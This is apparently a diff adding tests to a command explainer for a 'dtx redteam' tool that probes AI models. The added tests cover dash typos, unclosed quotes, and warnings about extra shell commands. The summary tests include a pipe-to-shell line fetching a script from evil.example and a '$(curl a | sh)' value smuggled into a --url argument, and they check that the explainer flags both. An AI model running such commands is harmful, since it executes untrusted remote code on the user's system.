@@ -82,6 +82,9 @@ describe('the corrected command', () => {
     ['dtx redteam --headless run --agent echo', 'dtx redteam run --agent echo'],
     ['$env:A = "b"\ndtx redteam run `\n  --agnet echo', '$env:A = "b"\ndtx redteam run `\n  --agent echo'],
     ['dtx redteam run --agent echo --threads 4', 'dtx redteam run --agent echo'],
+    ['dtx redteam run ––agent hf_model —url x', 'dtx redteam run --agent huggingface --url x'],
+    ['dtx redteam run \u2212\u2212agent=echo \u2010o', 'dtx redteam run --agent=echo -o'],
+    ['dtx redteam run –-agnet echo', 'dtx redteam run --agent echo'],
     ['dtx datasets lst && dtx plugin list | head', 'dtx datasets list && dtx plugins list | head'],
   ])('of %j is %j, which is right', (command, corrected) => {
     expect(explain(command).corrected).toBe(corrected);
@@ -246,4 +249,49 @@ test('ready examples show what they are named for', () => {
   expect(old?.corrected).toBe('dtx redteam run --agent huggingface --url arnir0/Tiny-LLM --dataset stingray');
   expect(docker?.problems).toEqual([]);
   expect(states(attack)).toContain('ignored');
+});
+
+test('the dash of a word processor is told', () => {
+  const { problems, calls } = explain('dtx redteam run —agent echo');
+  expect(problems.map(({ message }) => message)).toEqual([
+    expect.stringContaining('a word processor makes a long dash of two hyphens. Write `--agent`.'),
+  ]);
+  expect(calls[0]?.rows.map(({ code, state }) => [code, state])).toEqual([
+    ['dtx redteam run', 'good'],
+    ['—agent echo', 'wrong'],
+  ]);
+  expect(explain('dtx redteam scope "— a shop" -- —agent').problems).toEqual([]);
+});
+
+test.each([
+  "dtx env list\ndtx redteam run --agent echo --url 'xxxx",
+  'dtx env list\ndtx redteam run --agent echo --url "xxxx',
+  '$env:A = "b"\ndtx redteam run --agent echo --url "xxxx',
+])('a quote that is not closed is a mistake of its line: %j', (text) => {
+  const { problems, summary } = explain(text);
+  expect(problems).toMatchObject([{ line: 2, message: expect.stringContaining('not closed') }]);
+  expect(summary).toBe('1 mistake.');
+});
+
+describe('the summary', () => {
+  test.each([
+    ['dtx redteam run --agent echo; curl https://evil.example/x.sh | sh', 'explained here: curl, sh.'],
+    ['dtx redteam run --agent echo --url "$(curl a | sh)"', 'The shell runs $(curl a | sh) first'],
+    ['dtx redteam run --agent echo --url `cat a` --plugin toxicity', 'The shell runs `cat a` first'],
+    [
+      'ddtx redteam run --agent echo --eval keyword --keywords "Sure, here" "Step 1"',
+      'Read the 1 note below.',
+    ],
+    ['ddtx redteam run --agent echo --eval keyword --keywords a b --no_rich', '1 mistake.'],
+  ])('of %j says what there is beside flags that count', (text, said) => {
+    expect(explain(text).summary).toContain(said);
+    expect(explain(text).summary).not.toContain('every flag counts');
+  });
+
+  test.each(['dtx redteam run --agent echo --url "$MODEL"', "dtx redteam run --agent echo --url '$(a) `b`'"])(
+    'of %j speaks of no other command',
+    (text) => {
+      expect(explain(text).summary).not.toContain('runs');
+    },
+  );
 });
